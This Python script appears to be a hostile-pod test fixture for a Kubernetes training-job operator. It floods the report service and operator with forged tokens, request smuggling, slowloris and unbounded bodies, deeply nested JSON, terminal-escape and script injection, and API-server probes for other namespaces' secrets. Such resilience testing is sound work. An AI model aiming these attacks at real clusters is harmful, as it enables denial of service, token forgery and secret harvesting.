"""A training pod that means harm: all that its network and its tokens allow, for some seconds.

It knows more than it could: the uid of a pod of another job, and where the operator's pod is. In
the end it prints what came back, and dies with words that are meant for somebody's terminal.
"""

import base64
import collections
import http.client
import json
import os
import pathlib
import random
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

SERVICE = urlsplit(os.environ["TRAININGJOB_REPORT_URL"])
HOST, PORT = str(SERVICE.hostname), SERVICE.port or 80
TOKEN = pathlib.Path("/run/trainingjob/token").read_text()
ACCOUNT = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount")
VICTIM, OTHERS = os.environ["VICTIM"], os.environ["OTHERS"]
OPERATOR = os.environ["OPERATOR"]
UNTIL = time.monotonic() + float(os.environ["ATTACK_SECONDS"])
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\u2066\u200b\r\n<script>alert(1)</script>"
CAME: dict[str, collections.Counter[str]] = collections.defaultdict(collections.Counter)


def post(body: bytes, token: str = TOKEN, **headers: str) -> int:
    """One request; the code of its answer."""
    there = http.client.HTTPConnection(HOST, PORT, timeout=15)
    always = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    try:
        there.request("POST", SERVICE.path, body, {**always, **headers})
        return there.getresponse().status
    finally:
        there.close()


def report(**said: Any) -> bytes:
    """A report of rank 0, unless it says something else."""
    return json.dumps(
        {"version": 1, "process": "p", "rank": 0, "stage": "stepping", **said}
    ).encode()


def forged(**claims: Any) -> str:
    """A token that says that it is the victim's; nobody has signed it."""
    bound = {"namespace": OTHERS, "pod": {"name": "good-master", "uid": VICTIM}}
    said = {"aud": ["trainingjob.dev/reports"], "exp": int(time.time()) + 3600, **claims}
    payload = json.dumps({**said, "kubernetes.io": bound}).encode()
    head, _, signature = TOKEN.split(".")
    return f"{head}.{base64.urlsafe_b64encode(payload).decode().rstrip('=')}.{signature}"


def own_reports() -> int:
    return post(report(number=random.getrandbits(40)))


def a_million_ranks() -> int:
    return post(report(rank=1 + random.getrandbits(20), worldSize=2**21))


def many_processes() -> int:
    return post(report(process=f"p-{random.getrandbits(60)}", told={"metrics": {"a": 1e308}}))


def escapes() -> int:
    frame = {"file": ESCAPES, "line": 1, "function": ESCAPES, "user": True}
    error = {"type": ESCAPES, "message": ESCAPES, "frame": frame}
    return post(report(device=ESCAPES, waitsIn=ESCAPES, frames=[frame] * 24, error=error))


def deep() -> int:
    return post(b'{"version":' + b"[" * 16_000)


def forged_tokens() -> int:
    return post(report(process="victim"), forged(jti=random.getrandbits(60)))


def made_up_tokens() -> int:
    return post(report(), f"a.{random.getrandbits(200)}.b")


def huge() -> int:
    """A body that says that it has a terabyte."""
    with socket.create_connection((HOST, PORT), timeout=15) as there:
        head = f"POST {SERVICE.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        there.sendall(
            f"{head}Authorization: Bearer {TOKEN}\r\nContent-Length: {10**12}\r\n\r\n".encode()
        )
        return int(there.recv(100).split()[1])


def endless() -> int:
    """Chunks without an end, until somebody has enough of them."""
    with socket.create_connection((HOST, PORT), timeout=15) as there:
        head = f"POST {SERVICE.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        chunked = f"Authorization: Bearer {TOKEN}\r\nTransfer-Encoding: chunked\r\n\r\n"
        there.sendall((head + chunked).encode())
        chunk = b"1000\r\n" + b"x" * 0x1000 + b"\r\n"
        for _ in range(10_000):
            there.sendall(chunk)
        return int(there.recv(100).split()[1])


def slow() -> int:
    """A hundred connections that say one letter after the other."""
    open_ = []
    for _ in range(100):
        there = socket.create_connection((HOST, PORT), timeout=15)
        open_.append(there)
    for letter in "POST / HTTP/1.1\r\nX: " + "a" * 20:
        for there in open_:
            try:
                there.sendall(letter.encode())
            except OSError:
                CAME["slow"]["shown out"] += 1
        time.sleep(0.5)
    return 0


def metrics() -> int:
    """What Prometheus asks for, as often as one can."""
    there = http.client.HTTPConnection(OPERATOR, 8080, timeout=15)
    try:
        there.request("GET", "/metrics")
        return there.getresponse().status
    finally:
        there.close()


def probes() -> int:
    """A hundred connections where the kubelet asks for the operator's health."""
    held = [socket.create_connection((OPERATOR, 8080), timeout=15) for _ in range(100)]
    time.sleep(5)
    return len(held) and 0


def smuggled() -> int:
    """Two requests, as one server counts and as another does."""
    with socket.create_connection((HOST, PORT), timeout=15) as there:
        both = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        inner = f"POST {SERVICE.path} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
        there.sendall(f"POST / HTTP/1.1\r\nHost: x\r\n{both}{inner * 20}".encode())
        data = b""
        while piece := there.recv(4096):
            data += piece
        return 1000 * data.count(b"HTTP/1.") + int(data.split()[1])


ATTACKS: list[tuple[Callable[[], int], int]] = [
    (own_reports, 2),
    (a_million_ranks, 2),
    (many_processes, 2),
    (escapes, 1),
    (deep, 2),
    (forged_tokens, 4),
    (made_up_tokens, 4),
    (huge, 2),
    (endless, 2),
    (slow, 2),
    (metrics, 2),
    (probes, 2),
    (smuggled, 1),
]


def again_and_again(attack: Callable[[], int]) -> None:
    while time.monotonic() < UNTIL:
        try:
            CAME[attack.__name__][str(attack())] += 1
        except (OSError, http.client.HTTPException, IndexError, ValueError) as error:
            CAME[attack.__name__][type(error).__name__] += 1
            time.sleep(0.05)


def asked(path: str, token: str) -> int:
    """What the API server answers to a token."""
    trusts = ssl.create_default_context(cafile=str(ACCOUNT / "ca.crt"))
    host = os.environ["KUBERNETES_SERVICE_HOST"]
    there = http.client.HTTPSConnection(host, 443, timeout=15, context=trusts)
    there.request("GET", path, headers={"Authorization": f"Bearer {token}"})
    return there.getresponse().status


def main() -> None:
    own = (ACCOUNT / "token").read_text()
    for what in ("secrets", "configmaps", "pods"):
        for where in (OTHERS, os.environ["OWN"], "trainingjob-system"):
            CAME["api"][str(asked(f"/api/v1/namespaces/{where}/{what}", own))] += 1
    CAME["api with the reports' token"][str(asked("/api/v1/namespaces", TOKEN))] += 1
    threads = [
        threading.Thread(target=again_and_again, args=(attack,))
        for attack, count in ATTACKS
        for _ in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    sys.stdout.write(f"came {json.dumps(CAME)}\n")
    sys.stdout.flush()
    pathlib.Path("/dev/termination-log").write_text(ESCAPES + "\x00" + "x" * 3000 + ESCAPES)
    raise SystemExit(7)


main()
